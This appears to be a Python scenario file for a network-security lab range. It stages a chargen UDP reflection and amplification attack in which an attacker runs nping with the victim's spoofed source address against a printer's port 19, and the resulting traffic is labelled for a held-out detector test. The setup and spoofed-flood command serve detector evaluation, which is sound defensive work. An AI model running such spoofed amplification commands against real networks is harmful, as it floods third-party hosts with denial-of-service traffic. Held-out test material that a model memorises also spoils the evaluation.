"""chargen answers one octet with a page, in a neighbour's name."""

from lab.range import Range
from lab.scenario import Scenario

SERVER = """
import socket
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("0.0.0.0", 19))
line = bytes(range(32, 104)) + b"\\r\\n"
while True:
    _, peer = server.recvfrom(2048)
    server.sendto(line * 14, peer)
"""


def run(net: Range) -> None:
    attacker, victim, printer = net.outside("attacker"), net.outside("www"), net.inside("printer")
    printer.start("/usr/bin/python3", "-c", SERVER)
    net.everyday()
    net.quiet(1)
    with net.attack(
        "amplification",
        by=attacker,
        victims=[victim],
        attacker_known=False,
        others={"reflector": [printer], "claimed": [victim]},
        also=["ip-spoofing", "udp-flood"],
        frames=f"udp and dst host {printer.ip} and dst port 19",
        responses=f"host {victim.ip} and host {printer.ip}",
    ):
        words = f"nping -q --udp -S {victim.ip} -g 27015 -p 19 --data-length 1 --rate 20 -c 240 -e eth0"
        net.tool(attacker, *words.split(), printer.ip)
    net.quiet(2)


SCENARIO = Scenario(
    name="amplification-held-chargen",
    about="nping asks a printer's chargen service 20 times a second in the name of a game server outside.",
    detectors=("amplification",),
    tools={"nping": "nmap"},
    held_out=True,
    snap_octets=96,
    run=run,
)
